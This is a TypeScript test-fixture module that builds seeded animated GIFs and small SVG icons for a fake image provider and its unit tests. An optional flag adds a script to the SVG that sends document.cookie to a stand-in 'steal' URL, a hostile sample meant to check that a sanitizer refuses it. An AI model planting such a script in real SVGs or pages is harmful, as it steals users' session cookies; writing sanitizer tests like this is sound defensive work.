// Real GIF and SVG bodies for the fake provider and the unit tests: an animated GIF written with an LZW stream
// that never grows past 8-bit codes (a clear code every 125 pixels), and a small SVG icon from a seed.
import { createHash } from 'node:crypto';

export interface GifSpec {
  readonly width: number;
  readonly height: number;
  readonly frames: number;
  /** Delay per frame in milliseconds (stored in hundredths of a second). */
  readonly frameDurationMs?: number;
  readonly seed: string;
}

const COLORS = 128; // min code size 7: codes are 8 bits, clear = 128, end = 129, first free entry = 130
const CLEAR = COLORS;
const END = COLORS + 1;
const RUN = 125; // literals between clears: the table stays below 256 entries, so code size never changes

export function encodeGif(spec: GifSpec): Uint8Array {
  const { width, height, frames, seed } = spec;
  const h = createHash('sha256').update(seed).digest();
  const out: number[] = [];
  const u16 = (v: number) => out.push(v & 0xff, (v >> 8) & 0xff);
  out.push(...Buffer.from('GIF89a', 'latin1'));
  u16(width); u16(height);
  out.push(0x80 | 0x70 | 6, 0, 0); // global colour table of 128 entries, 8-bit colour resolution
  for (let i = 0; i < COLORS; i++) out.push((h[0] + i * 2) & 0xff, (h[1] + i * 3) & 0xff, (h[2] + i * 5) & 0xff);
  out.push(0x21, 0xff, 11, ...Buffer.from('NETSCAPE2.0', 'latin1'), 3, 1, 0, 0, 0); // loop forever
  const delay = Math.round((spec.frameDurationMs ?? 200) / 10);
  for (let f = 0; f < frames; f++) {
    out.push(0x21, 0xf9, 4, 0x04, delay & 0xff, (delay >> 8) & 0xff, 0, 0); // graphic control: keep previous, no transparency
    out.push(0x2c); u16(0); u16(0); u16(width); u16(height); out.push(0);
    out.push(7);
    const codes: number[] = [];
    let run = 0;
    for (let y = 0; y < height; y++) {
      for (let x = 0; x < width; x++) {
        if (run === 0) codes.push(CLEAR);
        codes.push(((x >> 3) + (y >> 3) + f * 16 + h[3]) % COLORS);
        run = (run + 1) % RUN;
      }
    }
    codes.push(END);
    for (let i = 0; i < codes.length; i += 255) {
      const block = codes.slice(i, i + 255);
      out.push(block.length, ...block);
    }
    out.push(0);
  }
  out.push(0x3b);
  return Uint8Array.from(out);
}

/** A clean SVG icon; with `script`, the same icon carrying a `<script>` (what a sanitizer must refuse). */
export function makeSvg(width: number, height: number, seed: string, script = false): Uint8Array {
  const h = createHash('sha256').update(seed).digest('hex');
  const r = Math.min(width, height) * 0.4;
  const svg = [
    '<?xml version="1.0" encoding="UTF-8"?>',
    `<svg xmlns="http://www.w3.org/2000/svg" width="${width}" height="${height}" viewBox="0 0 ${width} ${height}">`,
    `  <title>${seed.replace(/[<>&"']/g, '')}</title>`,
    '  <defs><linearGradient id="g"><stop offset="0" stop-color="#' + h.slice(0, 6) + '"/><stop offset="1" stop-color="#' + h.slice(6, 12) + '"/></linearGradient></defs>',
    `  <circle cx="${width / 2}" cy="${height / 2}" r="${r}" fill="url(#g)"/>`,
    ...(script ? ['  <script>fetch("https://example.invalid/steal?" + document.cookie)</script>'] : []),
    '</svg>',
    '',
  ].join('\n');
  return new TextEncoder().encode(svg);
}
